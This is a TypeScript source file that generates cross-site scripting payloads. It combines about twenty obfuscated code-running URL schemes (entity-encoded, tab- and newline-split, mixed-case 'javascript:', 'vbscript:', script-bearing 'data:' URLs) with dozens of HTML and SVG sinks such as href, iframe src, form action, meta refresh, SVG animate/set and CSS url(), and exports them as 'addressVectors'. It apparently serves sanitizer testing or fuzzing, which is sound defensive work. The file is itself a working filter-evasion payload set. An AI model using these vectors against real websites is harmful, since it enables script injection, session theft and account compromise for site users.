import type { Vector } from './payload';

const entities = (text: string) => [...text].map((letter) => `&#${letter.codePointAt(0)}`).join(';');

/** Addresses that run code, and the ways to hide that they do. */
const schemes: readonly ((code: string) => string)[] = [
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => `java\tscript:${code}`,
  (code) => `java&Tab;script&colon;${code}`,
  (code) => `java\nscript:${code}`,
  (code) => `&#1;javascript:${code}`,
  (code) => ` &#14; javascript:${code}`,
  (code) => `${entities('javascript')};:${code}`,
  (code) => `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${code}`,
  (code) => `javascript://bao.example/%0A${code}`,
  (code) => `javascript&#x3A;${code}`,
  (code) => `vbscript:${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString('base64')}`,
  (code) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
  (code) => `view-source:javascript:${code}`,
  (code) => `feed:javascript:${code}`,
  (code) => `blob:javascript:${code}`,
  (code) => `filesystem:javascript:${code}`,
  (code) => `\u00a0javascript:${code}`,
];

/** Where an address may stand. */
const places: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">Đọc tiếp</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button id=go>Gửi</button></form>`,
  (address) => `<button formaction="${address}" form=f>Gửi</button>`,
  (address) => `<svg><a xlink:href="${address}"><text y=20>Chữ</text></a></svg>`,
  (address) => `<math href="${address}"><mi>x</mi></math>`,
];

/** Where one spelling is enough: the parser of the address is the same. */
const rarePlaces: readonly ((address: string) => string)[] = [
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href="${address}//">`,
  (address) => `<link rel=import href="${address}">`,
  (address) => `<area href="${address}">`,
  (address) => `<img src="${address}" lowsrc="${address}" dynsrc="${address}">`,
  (address) => `<table background="${address}"><td background="${address}">Chữ</table>`,
  (address) => `<blockquote cite="${address}">Chữ</blockquote>`,
  (address) => `<a ping="${address}" href="https://bao.example">Chữ</a>`,
  (address) => `<frameset><frame src="${address}"></frameset>`,
  (address) => `<video poster="${address}"></video>`,
  (address) => `<iframe srcdoc="<script>parent.${address.replace(/^javascript:\(?/, '')}</script>"></iframe>`,
  (address) => `<svg><use href="${address}#x"/></svg>`,
  (address) => `<svg><animate attributeName=href values="${address}"/><a><text>Chữ</text></a></svg>`,
  (address) => `<svg><a><set attributeName=href to="${address}"/><text>Chữ</text></a></svg>`,
  (address) => `<p style="background:url('${address}')">Chữ</p>`,
  (address) => `<p style="-moz-binding:url(${address})">Chữ</p>`,
  (address) => `<style>@import '${address}';</style>`,
  (address) => `<script src="${address}"></script>`,
  (address) => `<script type=module>import '${address}'</script>`,
  (address) => `<a href="https://bao.example@${address}">Chữ</a>`,
];

export const addressVectors: readonly Vector[] = [
  ...places.flatMap((place) =>
    schemes.map(
      (scheme): Vector =>
        (code) =>
          place(scheme(code)),
    ),
  ),
  ...rarePlaces.map(
    (place): Vector =>
      (code) =>
        place(`javascript:${code}`),
  ),
];
